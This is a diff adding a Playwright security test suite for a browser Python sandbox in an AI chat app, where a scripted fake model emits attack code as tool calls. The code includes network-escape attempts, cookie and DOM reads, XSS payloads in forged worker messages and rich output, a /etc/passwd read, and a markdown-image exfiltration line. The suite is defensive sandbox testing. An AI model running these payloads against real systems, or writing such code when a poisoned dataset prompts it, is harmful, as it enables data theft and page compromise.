@@ -1,0 +1,200 @@
+import { expect, test, type Page } from '@playwright/test';
+import { addScenarios, FAKE_MODEL, openChat, send, waitForTurn } from './helpers';
+
+/**
+ * The attack suite: code a hostile dataset could make the model write. Each attack runs as a
+ * tool call, followed by a second run that proves the interpreter still works. Every test fails
+ * if the attack works.
+ */
+const PROBE = `${FAKE_MODEL}/__probe`;
+const ALIVE = 'print("alive", 6 * 7)';
+let counter = 0;
+
+async function attack(page: Page, code: string): Promise<{ cells: ReturnType<Page['getByRole']>; attackCell: ReturnType<Page['locator']>; aliveCell: ReturnType<Page['locator']> }> {
+  counter += 1;
+  const trigger = `e2e-attack-${counter}-${Date.now()}`;
+  await addScenarios([
+    { trigger, steps: [{ toolCall: { name: 'python', arguments: { code } } }, { toolCall: { name: 'python', arguments: { code: ALIVE } } }, { text: `attack ${counter} finished` }] },
+  ]);
+  const cells = page.getByRole('region', { name: 'Python code cell' });
+  const before = await cells.count();
+  await send(page, `Run this. ${trigger}`);
+  await expect(page.getByText(`attack ${counter} finished`)).toBeVisible({ timeout: 60_000 });
+  await waitForTurn(page);
+  const attackCell = cells.nth(before);
+  const aliveCell = cells.nth(before + 1);
+  await expect(aliveCell).toHaveAttribute('data-cell-status', 'ok');
+  await expect(aliveCell).toContainText('alive 42');
+  return { cells, attackCell, aliveCell };
+}
+
+async function setTimeLimit(target: Page, timeoutMs: number): Promise<void> {
+  await target.evaluate((ms) => localStorage.setItem('runpad:settings', JSON.stringify({ timeoutMs: ms })), timeoutMs);
+}
+
+async function probes(): Promise<unknown[]> {
+  return (await (await fetch(`${FAKE_MODEL}/__probes`)).json()) as unknown[];
+}
+
+async function attackCellText(page: Page, code: string): Promise<string> {
+  const { attackCell } = await attack(page, code);
+  const text = await attackCell.getByTestId('cell-outputs').innerText();
+  return text;
+}
+
+test.describe.configure({ mode: 'serial' });
+
+let page: Page;
+
+test.beforeAll(async ({ browser, baseURL }) => {
+  const context = await browser.newContext({ baseURL });
+  page = await context.newPage();
+  // A short time limit keeps the suite fast (the user's setting, as the settings dialog stores it).
+  await page.addInitScript(() => localStorage.setItem('runpad:settings', JSON.stringify({ timeoutMs: 2000 })));
+  page.on('pageerror', (error) => console.log('pageerror:', error.message));
+  await openChat(page);
+});
+
+test.afterAll(async () => {
+  expect(await probes()).toEqual([]);
+  await page.context().close();
+});
+
+test('an infinite loop is interrupted and the interpreter keeps its state', async () => {
+  const { attackCell } = await attack(page, 'kept = "state survives"\nwhile True:\n    pass');
+  await expect(attackCell).toHaveAttribute('data-cell-status', 'timeout');
+  await expect(attackCell).toContainText('KeyboardInterrupt');
+  await expect(attackCell).toContainText('Variables were kept');
+  const next = await attack(page, 'print(kept)');
+  await expect(next.attackCell).toContainText('state survives');
+});
+
+test('a C-level loop that ignores the interrupt is killed and the interpreter restarted', async () => {
+  const { attackCell } = await attack(page, 'sum(range(10**12))');
+  await expect(attackCell).toHaveAttribute('data-cell-status', 'timeout');
+  await expect(attackCell).toContainText('The interpreter was restarted; variables were lost.');
+});
+
+test('time.sleep(120) is stopped at the limit', async () => {
+  const { attackCell } = await attack(page, 'import time\ntime.sleep(120)');
+  await expect(attackCell).toHaveAttribute('data-cell-status', 'timeout');
+});
+
+test('an infinite loop inside await is stopped', async () => {
+  const { attackCell } = await attack(page, 'import asyncio\nasync def spin():\n    while True:\n        await asyncio.sleep(0)\nawait spin()');
+  await expect(attackCell).toHaveAttribute('data-cell-status', /timeout|interrupted/);
+});
+
+test('deep recursion is an error, not a crash of the page', async () => {
+  // Either Python's RecursionError, a wasm stack overflow (worker replaced), or the time limit.
+  const { attackCell } = await attack(page, 'import sys\nsys.setrecursionlimit(10**6)\ndef f(n):\n    return f(n + 1)\nf(0)');
+  await expect(attackCell).toHaveAttribute('data-cell-status', /error|crashed|timeout/);
+});
+
+test('a 3 GiB allocation ends in a MemoryError or a replaced interpreter, with a clear message', async () => {
+  // 3 GiB in 512 MiB pieces (one 3 GiB object does not even fit a wasm32 index).
+  await setTimeLimit(page, 30_000); // zero-filling gigabytes of wasm memory takes a while
+  const { attackCell } = await attack(page, 'chunks = [bytearray(512 * 1024**2) for _ in range(6)]');
+  await setTimeLimit(page, 2_000);
+  await expect(attackCell).toContainText(/MemoryError|of memory \(limit 1\.5 GiB\)\. The interpreter was restarted/);
+});
+
+test('printing 100 MB keeps a bounded output with the middle elided', async () => {
+  await setTimeLimit(page, 60_000);
+  const { attackCell } = await attack(page, 'line = "x" * 999\nfor _ in range(100_000):\n    print(line)\nprint("the end")');
+  await setTimeLimit(page, 2_000);
+  await expect(attackCell).toHaveAttribute('data-cell-status', 'ok');
+  await attackCell.getByRole('button', { name: /Show all/ }).click();
+  const text = await attackCell.getByTestId('cell-outputs').innerText();
+  expect(text).toContain('characters elided');
+  expect(text).toContain('the end');
+  expect(text.length).toBeLessThan(1_200_000);
+});
+
+test('displaying 1,000 images shows the first 20 and says so', async () => {
+  const code = [
+    'import base64',
+    "PNG = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==')",
+    'class Pixel:',
+    '    def _repr_png_(self):',
+    '        return PNG',
+    'for _ in range(1000):',
+    '    display(Pixel())',
+  ].join('\n');
+  const { attackCell } = await attack(page, code);
+  await expect(attackCell.getByRole('img')).toHaveCount(20);
+  await expect(attackCell).toContainText('980 more images were not shown');
+});
+
+const NETWORK_ATTEMPTS: Array<[string, (url: string) => string]> = [
+  ['js.fetch', (url) => `import js\nawait js.fetch("${url}")`],
+  ['js.XMLHttpRequest', (url) => `import js\nr = js.XMLHttpRequest.new()\nr.open("GET", "${url}", False)\nr.send()`],
+  ['pyodide.http.pyfetch', (url) => `from pyodide.http import pyfetch\nawait pyfetch("${url}")`],
+  ['pyodide.http.open_url', (url) => `from pyodide.http import open_url\nopen_url("${url}")`],
+  ['js.WebSocket', (url) => `import js\njs.WebSocket.new("${url.replace('http', 'ws')}")`],
+  ['js.EventSource', (url) => `import js\njs.EventSource.new("${url}")`],
+  ['js.importScripts', (url) => `import js\njs.importScripts("${url}")`],
+  ['js.eval import()', (url) => `import js\nawait js.eval("import('${url}')")`],
+  ['WorkerGlobalScope.prototype.fetch', (url) => `import js\nawait js.WorkerGlobalScope.prototype.fetch.call(js.self, "${url}")`],
+  ['socket.create_connection', (url) => `import socket\nsocket.create_connection(("127.0.0.1", ${new URL(url).port || 80}), timeout=1)`],
+];
+
+for (const [name, code] of NETWORK_ATTEMPTS) {
+  test(`${name} reaches neither another origin nor the app's own API`, async ({ baseURL }) => {
+    const outside = await attackCellText(page, `${code(`${PROBE}/${encodeURIComponent(name)}`)}\nprint("REACHED")`);
+    expect(outside).not.toContain('REACHED');
+    const own = await attackCellText(page, `${code(`${baseURL}/api/conversations`)}\nprint("REACHED")`);
+    expect(own).not.toContain('REACHED');
+    expect(await probes()).toEqual([]);
+  });
+}
+
+test('storage and the DOM are not reachable', async () => {
+  for (const target of ['js.indexedDB.open("x")', 'js.document.cookie', 'js.window.location.href', 'js.caches.keys()']) {
+    const text = await attackCellText(page, `import js\nprint("GOT", ${target})`);
+    expect(text).not.toContain('GOT');
+  }
+});
+
+test('forged worker messages are dropped and nothing is injected into the page', async () => {
+  await page.evaluate(() => {
+    (window as unknown as { __pwned?: boolean }).__pwned = false;
+  });
+  const code = [
+    'import js, json',
+    'for forged in [',
+    '    {"id": "0", "type": "RETURN", "value": {"type": "RAW", "value": {"status": "ok"}}},',
+    '    {"output_type": "display_data", "data": {"text/html": "<img src=x onerror=window.__pwned=true>"}},',
+    '    "<script>window.__pwned = true</script>",',
+    ']:',
+    '    js.self.postMessage(js.JSON.parse(json.dumps(forged)))',
+    'print("posted")',
+  ].join('\n');
+  const text = await attackCellText(page, code);
+  expect(text).toContain('posted');
+  expect(await page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBe(false);
+});
+
+test('/etc/passwd in the worker is the virtual filesystem, not the host', async () => {
+  const text = await attackCellText(page, 'import os\nprint("exists:", os.path.exists("/etc/passwd"))\nprint(open("/etc/passwd").read() if os.path.exists("/etc/passwd") else "")');
+  expect(text).not.toMatch(/root:x:0:0:root:\/root/);
+  expect(text).not.toContain('/usr/sbin/nologin');
+});
+
+test('HTML and script in rich output do not execute, and markdown images cannot exfiltrate', async () => {
+  await page.evaluate(() => {
+    (window as unknown as { __pwned?: boolean }).__pwned = false;
+  });
+  const code = [
+    'class Evil:',
+    '    def _repr_markdown_(self):',
+    `        return '<script>window.__pwned = true</script><img src="x" onerror="window.__pwned = true"> ![leak](${PROBE}/exfil?q=secret)'`,
+    '    def _repr_html_(self):',
+    '        return "<script>window.__pwned = true</script>"',
+    'Evil()',
+  ].join('\n');
+  await attack(page, code);
+  await page.waitForTimeout(500);
+  expect(await page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBe(false);
+  expect(await probes()).toEqual([]);
+});
